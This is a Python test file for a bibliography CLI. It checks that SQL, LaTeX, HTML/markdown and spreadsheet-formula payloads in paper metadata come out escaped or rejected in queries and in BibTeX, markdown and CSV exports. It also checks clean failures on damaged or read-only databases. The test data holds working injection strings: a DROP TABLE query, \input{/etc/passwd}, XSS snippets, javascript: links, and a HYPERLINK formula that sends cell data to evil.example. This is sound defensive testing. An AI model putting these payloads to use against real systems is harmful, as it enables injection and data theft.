"""Hostile content and bad databases (issue 7, items 5 and 6).

Papers whose titles, authors and links carry SQL, LaTeX, markdown/HTML and spreadsheet payloads
are added through the CLI (``adbib add``, a .bib and a .csv import); then every way out is checked
with exact expected output: query results, the BibTeX file (parsed back with bibtexparser, pybtex
and adbib's own reader, and compiled with bibtex + latex when they are installed), the markdown
page (exact lines, and rendered HTML that holds no live markup), the CSV cells.  ``-o`` to a place
that cannot be written, and databases adbib must not touch (not SQLite, damaged, from a newer
adbib, read-only), each give one exact line on stderr, a non-zero exit, and nothing written.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import shutil
import sqlite3
import subprocess
from contextlib import contextmanager
from pathlib import Path

import pytest
from typer.testing import CliRunner

from adbib.cli import app
from helpers.dbstate import snapshot

# SQLite only: hostile database files (not SQLite, damaged, read-only files).
pytestmark = pytest.mark.sqlite_only

TEX = r"{Braces} and \back 100% @at #hash & $dollar _under ~tilde ^caret} unbalanced{"
INJECT = r"\input{/etc/passwd} \end{document} @article{evil, title={x}} %comment"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = (
    "<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; &#x3C; "
    "`code` ![x](https://evil.example/t.png) <!-- c -->"
)
# As stored: titles lose inline HTML (the <img> tag, the comment) and have their character references
# decoded (issue 10); <script> is no text-level HTML element and stays, for the exporters to escape.
HTML_STORED = "<script>alert(1)</script> [click](javascript:alert(1)) & < `code` ![x](https://evil.example/t.png)"
MD_STRUCTURE = "# Heading\n- [[Paper]](javascript:alert(1)) | cell |\n> quote"
CODE_URL = "https://github.com/a/b)](javascript:alert(1)"
CELLS = ["+SUM(A1:A9)", "-2+3 minus", "@cmd attack", "\t=tab formula", "'quoted start"]

# (key adbib gives it, title as stored, `adbib add` arguments)
HOSTILE = [
    (
        "obrien2023braces",
        TEX,
        ["--title", TEX, "--author", "Zoë O'Brien", "--author", "Ann Lee", "--venue", "MICCAI", "--year", "2023"],
    ),
    ("ray2022inputetcpasswd", INJECT, ["--title", INJECT, "--author", "Bob Ray", "--venue", "MedIA", "--year", "2022"]),
    (
        "sum112021hyperlinkhttpevilexamplea1click",
        FORMULA,
        ["--title", FORMULA, "--author", "@SUM(1+1)", "--year", "2021"],
    ),
    (
        "bhackerb2020scriptalert1script",
        HTML_STORED,
        ["--title", HTML, "--author", "Eve <b>Hacker</b>", "--year", "2020", "--code", CODE_URL],
    ),
    (
        "mustermann2019heading",
        "# Heading - [[Paper]](javascript:alert(1)) | cell | > quote",
        ["--title", MD_STRUCTURE, "--author", "Max Mustermann", "--year", "2019"],
    ),
    ("formula2018suma1a9", "+SUM(A1:A9)", ["--title", "+SUM(A1:A9)", "--author", "Cy Formula", "--year", "2018"]),
    ("formula2018minus", "-2+3 minus", ["--title", "-2+3 minus", "--author", "Cy Formula", "--year", "2018"]),
    ("formula2018cmd", "@cmd attack", ["--title", "@cmd attack", "--author", "Cy Formula", "--year", "2018"]),
    ("formula2018tab", "=tab formula", ["--title", "\t=tab formula", "--author", "Cy Formula", "--year", "2018"]),
    ("formula2018quoted", "'quoted start", ["--title", "'quoted start", "--author", "Cy Formula", "--year", "2018"]),
]
KEYS = [key for key, _, _ in HOSTILE]
# `adbib query --sort year`: newest first, then by title key ("2 3 minus" < "cmd attack" < …)
BY_YEAR = [*KEYS[:5], "formula2018minus", "formula2018cmd", "formula2018quoted", "formula2018suma1a9", "formula2018tab"]
NO_MATCH = (0, "", "adbib: no paper matches\n")


def invoke(db: Path, *args: str):
    return CliRunner().invoke(app, ["--db", str(db), *args])


@pytest.fixture
def hostile_db(empty_db) -> Path:
    """An empty database with the HOSTILE papers added through `adbib add`, plus a javascript:
    and a data: link written straight into the link table (as an older adbib or another tool
    might have left them): the exporters must drop those themselves."""
    for key, title, args in HOSTILE:
        result = invoke(empty_db, "add", *args)
        assert (result.exit_code, result.stdout) == (0, f"added {key}: {title}\n"), result.output
    con = sqlite3.connect(empty_db)
    with con:
        pid = con.execute("SELECT id FROM paper WHERE citekey = 'bhackerb2020scriptalert1script'").fetchone()[0]
        con.executemany(
            "INSERT INTO link (paper_id, role, url) VALUES (?, ?, ?)",
            [
                (pid, "paper", "javascript:alert(document.cookie)"),
                (pid, "code", "data:text/html,<script>alert(1)</script>"),
            ],
        )
    con.close()
    return empty_db


def export(db: Path, fmt: str, tmp_path: Path) -> str:
    out = tmp_path / f"out.{fmt}"
    result = invoke(db, "export", "--format", fmt, "-o", str(out))
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", f"adbib: wrote {len(HOSTILE)} papers to {out}\n")
    return out.read_text(encoding="utf-8")


# ---------------------------------------------------------------- SQL metacharacters in queries


@pytest.mark.parametrize(
    "q, keys",
    [
        ("""venue:"x' OR 1=1 --" """, []),
        ("""venue:"x' OR '1'='1" """, []),
        ("author:%", []),
        ("author:_", []),
        ("author:%%_%", []),
        ('author:"%; DROP TABLE paper; --"', []),
        ("dataset:%", []),
        ("category:_", []),
        ('author:"O\'Brien"', ["obrien2023braces"]),
        ("""-venue:"x' OR 1=1 --" """, BY_YEAR),  # the exact complement: everything
        ('"100%"', ["obrien2023braces"]),
        ('"NEAR(alert script)"', []),  # FTS5 syntax inside a phrase is plain words
        ("alert", ["bhackerb2020scriptalert1script", "mustermann2019heading"]),
    ],
)
def test_sql_and_fts_metacharacters_in_query_values_are_plain_values(hostile_db, q, keys):
    result = invoke(hostile_db, "query", "--format", "keys", "--sort", "year", "--", q)
    # stderr may carry hints on values that name nothing (issue 13), one line each
    assert all(line.startswith("adbib: no ") for line in result.stderr.splitlines())
    if keys:
        assert (result.exit_code, result.stdout) == (0, "".join(k + "\n" for k in keys))
    else:
        assert (result.exit_code, result.stdout, result.stderr.splitlines(keepends=True)[-1]) == NO_MATCH
    assert len(snapshot(hostile_db)["paper"]) == len(HOSTILE)  # and nothing was dropped


def test_a_query_of_only_fts_operators_is_a_usage_error(hostile_db):
    result = invoke(hostile_db, "query", '"*"')
    assert (result.exit_code, result.stdout, result.stderr) == (
        2,
        "",
        "adbib: nothing to search for in '*' (no letters or digits)\n",
    )


# ---------------------------------------------------------------- BibTeX


def test_bibtex_export_escapes_every_latex_special(hostile_db, tmp_path):
    text = export(hostile_db, "bibtex", tmp_path)
    assert (
        r"  title = {\{Braces\} and \textbackslash{}back 100\% @at \#hash \& \$dollar \_under "
        r"\textasciitilde{}tilde \textasciicircum{}caret\textbraceright{} unbalanced\textbraceleft{}},"
    ) in text.splitlines()
    assert (
        r"  title = {\textbackslash{}input\{/etc/passwd\} \textbackslash{}end\{document\} "
        r"@article\{evil, title=\{x\}\} \%comment},"
    ) in text.splitlines()
    assert "  author = {O'Brien, Zo{\\\"e} and Lee, Ann}," in text.splitlines()


def test_bibtex_export_parses_back_with_bibtexparser_and_pybtex(hostile_db, tmp_path):
    import bibtexparser
    import pybtex.database
    import pybtex.errors
    from pybtex import format_from_string

    text = export(hostile_db, "bibtex", tmp_path)
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    assert sorted(e.key for e in library.entries) == sorted(KEYS)

    pybtex.errors.set_strict_mode(True)  # every pybtex complaint raises
    try:
        assert sorted(pybtex.database.parse_string(text, "bibtex").entries) == sorted(KEYS)
        formatted = format_from_string(text, style="plain", output_backend="text")
    finally:
        pybtex.errors.set_strict_mode(False)
    assert len(re.findall(r"^\[\d+\] ", formatted, re.MULTILINE)) == len(HOSTILE)


def test_bibtex_export_reads_back_to_the_same_titles(hostile_db, tmp_path):
    """adbib's own BibTeX reader gives back each title with LaTeX specials exactly as stored."""
    from adbib.readers import reader

    text = export(hostile_db, "bibtex", tmp_path)
    result = reader("bibtex").read(text)
    assert result.failures == []
    got = {r.raw.split("{", 1)[1].split(",", 1)[0]: r.title for r in result.records}
    assert {key: got[key] for key in ("obrien2023braces", "ray2022inputetcpasswd")} == {
        "obrien2023braces": TEX,
        "ray2022inputetcpasswd": INJECT,
    }


@pytest.mark.skipif(
    not (shutil.which("latex") and shutil.which("bibtex")) and os.environ.get("CI", "").lower() != "true",  # CI: fail
    reason="latex and bibtex are not installed",
)
def test_bibtex_export_compiles_with_bibtex_and_latex_without_a_warning(hostile_db, tmp_path):
    """latex, bibtex (plain style), latex: no error, no bibtex warning, and the \\input{/etc/passwd}
    of a title is printed, not executed."""
    (tmp_path / "refs.bib").write_text(export(hostile_db, "bibtex", tmp_path), encoding="utf-8")
    (tmp_path / "doc.tex").write_text(
        "\\documentclass{article}\n\\begin{document}\n\\nocite{*}\n"
        "\\bibliographystyle{plain}\n\\bibliography{refs}\n\\end{document}\n"
    )
    latex = ["latex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "doc.tex"]
    for step in (latex, ["bibtex", "doc"], latex):
        done = subprocess.run(step, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, done.stdout[-2000:]
    blg = (tmp_path / "doc.blg").read_text()
    assert not re.search(r"There (?:was|were) \d+ (?:warning|error)", blg), blg
    assert "warning$ -- 0" in blg
    log = (tmp_path / "doc.log").read_text(errors="replace")
    assert "(/etc/passwd" not in log and not re.search(r"^! ", log, re.MULTILINE)
    bbl = (tmp_path / "doc.bbl").read_text()
    assert bbl.count("\\bibitem{") == len(HOSTILE)


# ---------------------------------------------------------------- markdown


def test_markdown_export_escapes_payloads_line_by_line(hostile_db, tmp_path):
    lines = export(hostile_db, "markdown", tmp_path).splitlines()
    for expected in [
        r"- *(2023-MICCAI)* **{Braces} and \\back 100% @at #hash & \$dollar \_under \~tilde ^caret} unbalanced{**",
        r"- *(2022-MedIA)* **\\input{/etc/passwd} \\end{document} @article{evil, title={x}} %comment**",
        '- *(2021)* **=HYPERLINK("http://evil.example/?"&A1,"click")**',
        (
            r"- *(2020)* **&lt;script&gt;alert(1)&lt;/script&gt; \[click\](javascript:alert(1)) & &lt; "
            r"\`code\` !\[x\](https://evil.example/t.png)** "
            r"[[Code]](https://github.com/a/b\)]\(javascript:alert\(1\))"
        ),
        "  - Authors: Eve &lt;b&gt;Hacker&lt;/b&gt;",
        r"- *(2019)* **# Heading - \[\[Paper\]\](javascript:alert(1)) | cell | &gt; quote**",
        "  - Authors: @SUM(1+1)",
    ]:
        assert expected in lines
    assert not [line for line in lines if "data:" in line or re.search(r"(?<!\\)\]\(javascript:", line)]


def test_markdown_export_renders_to_inert_html(hostile_db, tmp_path):
    """Rendered as GitHub would (raw HTML allowed): only the page's own tags, and every link an
    http(s) URL; the payloads are text."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(export(hostile_db, "markdown", tmp_path))
    assert set(re.findall(r"<(\w+)", html)) == {"h1", "h2", "h3", "ul", "li", "em", "strong", "a"}
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    assert hrefs == ["https://github.com/a/b)%5D(javascript:alert(1)"]
    assert not re.search(r"<!--(?! generated by adbib)|\bsrc=\"|\bon\w+=\"", html)


# ---------------------------------------------------------------- CSV


def _csv_rows(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {row["citekey"]: row for row in rows}


def test_csv_export_neutralizes_formulas_cell_by_cell(hostile_db, tmp_path):
    text = export(hostile_db, "csv", tmp_path)
    rows = _csv_rows(text)
    assert {key: (rows[key]["title"], rows[key]["authors"]) for key in KEYS} == {
        "obrien2023braces": (TEX, "Zoë O'Brien; Ann Lee"),
        "ray2022inputetcpasswd": (INJECT, "Bob Ray"),
        "sum112021hyperlinkhttpevilexamplea1click": ("'" + FORMULA, "'@SUM(1+1)"),
        "bhackerb2020scriptalert1script": (HTML_STORED, "Eve <b>Hacker</b>"),
        "mustermann2019heading": ("# Heading - [[Paper]](javascript:alert(1)) | cell | > quote", "Max Mustermann"),
        "formula2018suma1a9": ("'+SUM(A1:A9)", "Cy Formula"),
        "formula2018minus": ("'-2+3 minus", "Cy Formula"),
        "formula2018cmd": ("'@cmd attack", "Cy Formula"),
        "formula2018tab": ("'=tab formula", "Cy Formula"),
        "formula2018quoted": ("''quoted start", "Cy Formula"),
    }
    assert (rows["bhackerb2020scriptalert1script"]["url"], rows["bhackerb2020scriptalert1script"]["code"]) == (
        "",
        CODE_URL,
    )
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_export_imports_back_to_the_same_titles(hostile_db, tmp_path):
    text = export(hostile_db, "csv", tmp_path)
    fresh = tmp_path / "fresh.db"
    (tmp_path / "back.csv").write_text(text, encoding="utf-8", newline="")
    result = invoke(fresh, "import", str(tmp_path / "back.csv"))
    assert result.exit_code == 0, result.output
    con = sqlite3.connect(fresh)
    titles = sorted(r[0] for r in con.execute("SELECT title FROM paper"))
    con.close()
    assert titles == sorted(title for _, title, _ in HOSTILE)


def test_a_file_name_that_is_a_formula_is_neutralized_in_the_sources_cell(empty_db, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("=1+1.bib").write_text(
        "@misc{a,\n  title = {A Paper From A Formula File},\n  author = {Lee, Ann},\n  year = {2024},\n}\n"
    )
    assert invoke(empty_db, "import", "=1+1.bib").exit_code == 0
    rows = _csv_rows(invoke(empty_db, "export", "--format", "csv").stdout)
    assert rows["a"]["sources"] == "'=1+1.bib:1"  # the .bib key is kept (issue 12)


def test_javascript_and_data_links_in_an_import_are_refused_and_reported(empty_db, tmp_path):
    bib = tmp_path / "links.bib"
    bib.write_text(
        "@misc{js1,\n  title = {Links That Are Not Links},\n  author = {Mallory, Eve},\n  year = {2024},\n"
        "  url = {javascript:alert(document.cookie)},\n  code = {data:text/html,<script>alert(1)</script>},\n}\n"
    )
    result = invoke(empty_db, "import", str(bib), "--verbose")  # every entry (issue 13)
    assert (result.exit_code, result.stdout) == (
        0,
        (
            f"{bib} (bibtex, source links): imported 1 entries: 1 new, 0 merged, 0 unchanged, 0 skipped, 0 failed, 2 problems\n"
            "  new        line     1  js1  Links That Are Not Links\n"  # the .bib key is kept
            "  problem    line     1  url: not an http(s) URL: 'javascript:alert(document.cookie)'\n"
            "  problem    line     1  code: not an http(s) URL: 'data:text/html,<script>alert(1)</script>'\n"
        ),
    )
    assert snapshot(empty_db)["link"] == []


# ---------------------------------------------------------------- -o where nothing can be written


@contextmanager
def immutable(path: Path):
    """``path`` made unwritable even for root (chattr +i), or skip the test where that is not
    possible; a non-root user gets a read-only mode instead."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield errno.EACCES
        finally:
            path.chmod(mode)
        return
    if (
        not shutil.which("chattr")
        or subprocess.run(["chattr", "+i", str(path)], capture_output=True, check=False).returncode
    ):
        pytest.skip("running as root on a file system without chattr +i: nothing here is unwritable")
    try:
        yield errno.EPERM
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)


def _listing(directory: Path) -> dict[str, bytes]:
    """Name -> content of every file in ``directory`` but the database and its -wal/-shm."""
    return {
        p.name: (p.read_bytes() if p.is_file() else b"<dir>")
        for p in sorted(directory.iterdir())
        if not p.name.startswith("adbib.db")
    }


def test_o_to_a_directory(seeded_db, tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
    assert (result.exit_code, result.stdout, result.stderr) == (
        1,
        "",
        f"adbib: {target}: is a directory; give a file name to -o\n",
    )
    assert _listing(target) == {}


def test_o_into_a_missing_directory(seeded_db, tmp_path):
    result = invoke(seeded_db, "export", "--format", "csv", "-o", str(tmp_path / "nope" / "x.csv"))
    assert (result.exit_code, result.stdout, result.stderr) == (
        1,
        "",
        f"adbib: {tmp_path / 'nope'}: no such directory\n",
    )
    assert not (tmp_path / "nope").exists()


def test_o_into_an_unwritable_directory(seeded_db, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    target = locked / "x.bib"
    with immutable(locked) as code:
        result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
        assert _listing(locked) == {}
    assert (result.exit_code, result.stdout, result.stderr) == (
        1,
        "",
        f"adbib: {target}: cannot write here ({os.strerror(code)})\n",
    )


def test_o_onto_a_file_that_cannot_be_replaced(seeded_db, tmp_path):
    """The target exists and may not be replaced: one line, the file as it was, no temporary
    file left beside it."""
    target = tmp_path / "refs.bib"
    target.write_text("% my hand-made bibliography\n")
    with immutable(target) as code:
        result = invoke(seeded_db, "export", "--format", "bibtex", "-o", str(target))
    assert (result.exit_code, result.stdout, result.stderr) == (
        1,
        "",
        f"adbib: {target}: cannot write here ({os.strerror(code)})\n",
    )
    assert _listing(tmp_path) == {"refs.bib": b"% my hand-made bibliography\n"}


def test_o_interrupted_half_way_leaves_the_old_file(seeded_db, tmp_path, monkeypatch):
    from adbib.exporters import csv as csv_exporter

    target = tmp_path / "papers.csv"
    target.write_text("the previous export\n")

    def interrupted(papers, out):
        out.write("citekey,title\n" * 100)
        raise KeyboardInterrupt

    monkeypatch.setattr(csv_exporter, "write", interrupted)
    result = invoke(seeded_db, "export", "--format", "csv", "-o", str(target))
    assert (result.exit_code, result.stdout, result.stderr) == (
        130,
        "",
        "adbib: interrupted; the database is unchanged by the unfinished step\n",
    )
    assert _listing(tmp_path) == {"papers.csv": b"the previous export\n"}


# ---------------------------------------------------------------- bad databases

# Every command that opens the database, and what it is given.
COMMANDS = [
    ["query", "venue:MICCAI"],
    ["show", "1"],
    ["export", "--format", "bibtex"],
    ["venues"],
    ["import", "{bib}"],
    ["add", "--title", "A Paper", "--author", "Ann Lee"],
    ["seed"],
    ["merge", "1", "2"],
]


def _run_all(db: Path, tmp_path: Path) -> list[tuple[int, str, str]]:
    bib = tmp_path / "one.bib"
    bib.write_text("@misc{a,\n  title = {One More Paper},\n  author = {Lee, Ann},\n  year = {2024},\n}\n")
    results = []
    for command in COMMANDS:
        result = invoke(db, *[arg.format(bib=bib) for arg in command])
        results.append((result.exit_code, result.stdout, result.stderr))
    return results


def _untouched(db: Path) -> tuple[bytes, int]:
    """The database file's bytes and the size of its write-ahead log (a read-only connection to a
    WAL database may leave an empty -wal and a -shm beside it: SQLite's, holding no data)."""
    wal = Path(f"{db}-wal")
    return db.read_bytes(), wal.stat().st_size if wal.exists() else 0


def test_a_file_that_is_not_sqlite(tmp_path):
    db = tmp_path / "notes.db"
    db.write_text("These are my notes, not a database.\n" * 200)
    before = _untouched(db)
    expected = (1, "", f"adbib: {db}: not an SQLite database (file is not a database)\n")
    assert _run_all(db, tmp_path) == [expected] * len(COMMANDS)
    assert _untouched(db) == before


def test_an_sqlite_database_of_another_program(tmp_path):
    db = tmp_path / "other.db"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, amount REAL)")
    con.execute("INSERT INTO invoices (amount) VALUES (12.5)")
    con.commit()
    con.close()
    before = _untouched(db)
    expected = (1, "", f"adbib: {db}: not an adbib database (it has no adbib schema)\n")
    assert _run_all(db, tmp_path) == [expected] * len(COMMANDS)
    assert _untouched(db) == before


def test_a_database_from_a_newer_adbib(seeded_db, tmp_path):
    con = sqlite3.connect(seeded_db)
    con.execute("UPDATE alembic_version SET version_num = 'ffff'")
    con.commit()
    con.close()
    before = _untouched(seeded_db)
    expected = (1, "", f"adbib: {seeded_db}: made by a newer adbib (schema revision ffff); upgrade adbib to read it\n")
    assert _run_all(seeded_db, tmp_path) == [expected] * len(COMMANDS)
    assert _untouched(seeded_db) == before


def test_a_damaged_database_gives_one_line_not_a_traceback(seeded_db, tmp_path):
    """One page of the paper table overwritten (a disk error, a bad copy): every command that reads
    it stops with one line naming the database, and nothing is written."""
    con = sqlite3.connect(seeded_db)
    root = con.execute("SELECT rootpage FROM sqlite_master WHERE name = 'paper'").fetchone()[0]
    page = con.execute("PRAGMA page_size").fetchone()[0]
    con.close()
    with open(seeded_db, "r+b") as f:
        f.seek((root - 1) * page)
        f.write(b"\xff" * page)
    before = _untouched(seeded_db)
    for command in (["query", "venue:MICCAI"], ["show", "1"], ["export", "--format", "csv"], ["import", "{bib}"]):
        bib = tmp_path / "one.bib"
        bib.write_text("@misc{a,\n  title = {One More Paper},\n  author = {Lee, Ann},\n  year = {2024},\n}\n")
        result = invoke(seeded_db, *[arg.format(bib=bib) for arg in command])
        assert result.exception is None or isinstance(result.exception, SystemExit), (command, result.exception)
        assert result.exit_code == 1 and re.fullmatch(
            rf"adbib: {re.escape(str(seeded_db))}: [^\n]+\n", result.stderr
        ), command
    assert _untouched(seeded_db) == before


def test_a_read_only_database_is_read_but_never_written(seeded_db, tmp_path):
    """chmod 444 does not stop root, so as root the file is made immutable (chattr +i)."""
    before = seeded_db.read_bytes()
    with immutable(seeded_db):
        query = invoke(seeded_db, "query", "author:Wolleb", "--format", "keys")
        results = _run_all(seeded_db, tmp_path)
    assert (query.exit_code, query.stderr) == (0, "")
    assert query.stdout.splitlines()  # the papers are there to read
    expected = (1, "", f"adbib: {seeded_db}: the database file is read-only\n")
    writers = {"import", "add", "seed", "merge"}
    assert [r for c, r in zip(COMMANDS, results, strict=False) if c[0] in writers] == [expected] * len(writers)
    assert all(r[0] == 0 for c, r in zip(COMMANDS, results, strict=False) if c[0] not in writers)
    assert seeded_db.read_bytes() == before
